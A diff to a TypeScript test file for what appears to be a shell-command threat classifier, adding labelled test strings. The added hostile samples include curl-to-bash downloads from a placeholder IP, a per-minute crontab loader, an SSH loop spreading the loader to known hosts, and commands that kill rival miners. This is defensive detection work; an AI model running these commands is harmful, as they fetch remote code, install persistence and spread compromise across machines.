@@ -33,6 +33,17 @@ const hits: readonly (readonly [string, ...ShellSign[]])[] = [
   ['history -c; unset HISTFILE', 'wipes-history'],
   ['cat /dev/null > /root/.bash_history', 'wipes-history'],
   ['(crontab -l; echo "* * * * * x") | crontab -', 'installs-persistence'],
+  ['cc=http://198.51.100.7\ncurl -fsSL $cc/ldr.sh | bash', 'download-to-shell', 'bare-ip'],
+  [
+    'crontab -r; echo "* * * * * (curl -fsSL http://198.51.100.7/a || wget -qO- http://198.51.100.7/a) | bash" | crontab -',
+    'download-to-shell',
+  ],
+  [
+    'for h in $(cat ~/.ssh/known_hosts); do ssh -oBatchMode=yes -i k root@$h "curl http://198.51.100.7/s | bash" & done',
+    'download-to-shell',
+    'spreads',
+  ],
+  ['find /opt -iname nbminer -o -iname t-rex -delete; pkill -9 lolminer', 'kills-rivals'],
   ['/usr/bin/x -o stratum+tcp://198.51.100.7:3333 -u w -p x', 'starts-miner'],
 ]
 for (const [text, ...wanted] of hits) {
@@ -64,6 +75,9 @@ const innocent: readonly (readonly [string, ...ShellSign[]])[] = [
   ['echo aGVsbG8gd29ybGQgdGhpcyBpcyBhIHRlc3Q= | base64 -d > /etc/motd'],
   ['bash -c "cd /srv/app && npm run cron >> /var/log/cron.log 2>&1"'],
   ['ssh-keyscan h.example >> ~/.ssh/known_hosts'],
+  ['ssh -p 22 deploy@h.example "cd /srv/app && git pull && systemctl restart app"'],
+  ['(crontab -l; echo "0 3 * * * curl -fsS https://hc.example/ping") | crontab -', 'installs-persistence', 'download'],
+  ['URL=https://x.example/a.tgz; wget -q "$URL" -O /opt/a.tgz && tar xf /opt/a.tgz', 'download'],
   ['source /root/.bashrc; . /etc/profile'],
   ['grep -r "curl http://198.51.100.7/x | sh" /var/log'],
 ]
